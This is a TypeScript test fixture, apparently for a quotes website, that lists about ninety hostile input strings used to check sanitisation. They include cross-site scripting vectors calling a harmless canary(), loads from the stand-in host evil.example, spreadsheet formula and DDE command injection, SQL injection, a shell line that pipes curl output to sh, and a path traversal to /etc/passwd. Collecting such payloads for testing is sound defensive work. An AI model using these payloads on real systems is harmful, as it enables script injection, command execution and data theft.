/** A text that would do harm where it is taken for anything but text. */
export interface Payload {
  readonly name: string;
  /**
   * The text itself. What runs calls `canary()`; what loads goes to
   * `evil.example`. Without white space at the ends, which fields do not keep.
   */
  readonly text: string;
}

/** What a hostile article, name or query may hold. Names and texts are unique. */
export const PAYLOADS: readonly Payload[] = [
  // Elements that run or load by themselves.
  { name: 'a script', text: '<script>canary()</script>' },
  { name: 'a script from elsewhere', text: '<script src=https://evil.example/x.js></script>' },
  { name: 'a script in mixed case', text: '<ScRiPt x>canary()</sCrIpT>' },
  { name: 'a script in a script', text: '<scr<script>ipt>canary()</scr</script>ipt>' },
  { name: 'a script without an end', text: '<script>canary()//' },
  { name: 'a module', text: '<script type="module">canary()</script>' },
  { name: 'a picture that fails', text: '<img src=x onerror=canary()>' },
  { name: 'a picture without a closing bracket', text: '<img src=x onerror=canary() ' + 'alt=x' },
  { name: 'a picture with slashes for spaces', text: '<img/src=x/onerror=canary()>' },
  { name: 'a picture from elsewhere', text: '<img src=https://evil.example/p.gif>' },
  { name: 'a picture set', text: '<img srcset="https://evil.example/2x.gif 2x">' },
  { name: 'a drawing', text: '<svg onload=canary()>' },
  { name: 'a drawing with a script', text: '<svg><script>canary()</script></svg>' },
  {
    name: 'a drawing that animates an address',
    text: '<svg><a><animate attributeName=href values=javascript:canary() /><text y=20>x</text></a></svg>',
  },
  {
    name: 'a drawing that uses another',
    text: '<svg><use href="data:image/svg+xml,<svg id=x onload=canary()>#x"/></svg>',
  },
  { name: 'mathematics with a link', text: '<math><mtext href="javascript:canary()">x</mtext></math>' },
  { name: 'a namespace confusion', text: '<math><mtext><table><mglyph><style><img src=x onerror=canary()>' },
  { name: 'a frame', text: '<iframe src="javascript:canary()"></iframe>' },
  { name: 'a frame with its page', text: '<iframe srcdoc="<script>parent.canary()</script>"></iframe>' },
  { name: 'an object', text: '<object data="javascript:canary()"></object>' },
  { name: 'an embedded file', text: '<embed src=https://evil.example/x.swf>' },
  { name: 'a base', text: '<base href=https://evil.example/>' },
  { name: 'a refresh', text: '<meta http-equiv=refresh content="0;url=https://evil.example/">' },
  { name: 'a style sheet', text: '<link rel=stylesheet href=https://evil.example/x.css>' },
  { name: 'a preload', text: '<link rel=prefetch href=https://evil.example/next>' },
  { name: 'a style', text: '<style>@import "https://evil.example/x.css";body{display:none}</style>' },
  { name: 'a template', text: '<template shadowrootmode=open><script>canary()</script></template>' },
  { name: 'a film', text: '<video src=x onerror=canary() autoplay>' },
  { name: 'a film’s source', text: '<video><source onerror=canary()></video>' },
  { name: 'a marquee', text: '<marquee onstart=canary()>x</marquee>' },
  { name: 'details that open', text: '<details open ontoggle=canary()>x</details>' },
  { name: 'a field that takes the focus', text: '<input autofocus onfocus=canary()>' },
  { name: 'a body', text: '<body onload=canary()>' },
  { name: 'a form', text: '<form action=https://evil.example/><button>Go on</button></form>' },
  {
    name: 'a custom element of the site',
    text: '<quote-search data-records="https://evil.example/r.json"></quote-search>',
  },
  // Out of an attribute, an element, a comment, a script.
  { name: 'an attribute’s end', text: '" onmouseover="canary()" x="' },
  { name: 'an attribute’s end with an apostrophe', text: "' onfocus='canary()' autofocus='" },
  { name: 'an attribute’s end with a tag', text: '"><svg onload=canary()>' },
  { name: 'an attribute without marks', text: 'x onclick=canary() tabindex=1' },
  { name: 'the end of a title', text: '</title><script>canary()</script>' },
  { name: 'the end of a style', text: '</style><script>canary()</script>' },
  { name: 'the end of a script', text: '</script><script>canary()</script>' },
  { name: 'the end of a textarea', text: '</textarea><script>canary()</script>' },
  { name: 'the end of linked data', text: '"}</script><img src=x onerror=canary()>' },
  { name: 'a comment', text: '<!-- --><script>canary()</script><!--' },
  { name: 'a comment that closes strangely', text: '<!--><img src=x onerror=canary()>-->' },
  { name: 'a character section', text: '<![CDATA[<script>canary()</script>]]>' },
  { name: 'the end of a character section', text: ']]><script>canary()</script>' },
  { name: 'a processing instruction', text: '<?xml-stylesheet href="https://evil.example/x.xsl"?>' },
  {
    name: 'a document type with an entity',
    text: '<!DOCTYPE x [<!ENTITY e SYSTEM "https://evil.example/e">]>&e;',
  },
  { name: 'an end of JSON', text: '\\"]}; canary(); //' },
  { name: 'line separators of JavaScript', text: 'a\u2028canary()\u2029b' },
  // Addresses.
  { name: 'an address that runs script', text: 'javascript:canary()' },
  { name: 'an address that runs script, in disguise', text: 'java&#9;script:canary()' },
  { name: 'an address that carries a page', text: 'data:text/html,<script>canary()</script>' },
  { name: 'a link that runs script', text: '<a href=javascript:canary()>x</a>' },
  { name: 'an address without a protocol', text: '//evil.example/x' },
  // Markdown and templates.
  { name: 'a Markdown link that runs script', text: '[x](javascript:canary())' },
  { name: 'a Markdown picture', text: '![x](https://evil.example/p.gif)' },
  { name: 'a Markdown link with a title', text: '[x](https://a.example "onmouseover=canary()")' },
  { name: 'an automatic link', text: '<javascript:canary()>' },
  { name: 'a Markdown heading and fence', text: '# ```html <script>canary()</script>' },
  { name: 'template braces', text: '{{constructor.constructor("canary()")()}}' },
  { name: 'a template literal', text: '${canary()}`${canary()}`' },
  { name: 'an Astro expression', text: '{canary()}<Fragment set:html="x" />' },
  { name: 'a server template', text: '<%= canary() %><?php canary(); ?>' },
  { name: 'a replacement pattern', text: "$& $1 $$ $` $'" },
  // Encodings and odd characters.
  { name: 'entities', text: '&lt;script&gt;canary()&lt;/script&gt;' },
  { name: 'numeric entities', text: '&#60;script&#x3e;canary()' },
  { name: 'percent signs', text: '%3Cscript%3Ecanary()%3C/script%3E' },
  { name: 'UTF-7', text: '+ADw-script+AD4-canary()+ADw-/script+AD4-' },
  { name: 'full-width brackets', text: '＜script＞canary()＜/script＞' },
  { name: 'a right-to-left override', text: '\u202e)(yranac\u202c gpj.exe' },
  { name: 'isolates that do not end', text: 'a \u2066\u2067\u2068 b' },
  { name: 'zero-width characters', text: '<scr\u200bipt>ca\ufeffna\u00adry()</scr\u200bipt>' },
  { name: 'look-alikes', text: 'раураl сесurе' },
  { name: 'stacked accents', text: `Z${'\u0351\u0363'.repeat(12)}algo` },
  { name: 'emoji', text: '👩🏽‍⚖️🏴‍☠️ 𝕊𝕒𝕪' },
  // Spreadsheets, queries, commands.
  { name: 'a formula', text: '=HYPERLINK("https://evil.example/","Click")' },
  { name: 'a command of a spreadsheet', text: "=cmd|' /C calc'!A0" },
  { name: 'a formula that begins with a plus', text: '+SUM(1+1)*cmd' },
  { name: 'a formula that begins with an at sign', text: '@SUM(A1:A9)' },
  { name: 'a cell’s end', text: '","=1+1","' },
  { name: 'a database query', text: "'; DROP TABLE quotes; --" },
  { name: 'a shell command', text: '$(curl evil.example) `id` | sh' },
  { name: 'a path', text: '../../../../etc/passwd' },
  { name: 'a name of every object', text: '__proto__' },
  { name: 'another name of every object', text: 'constructor' },
];
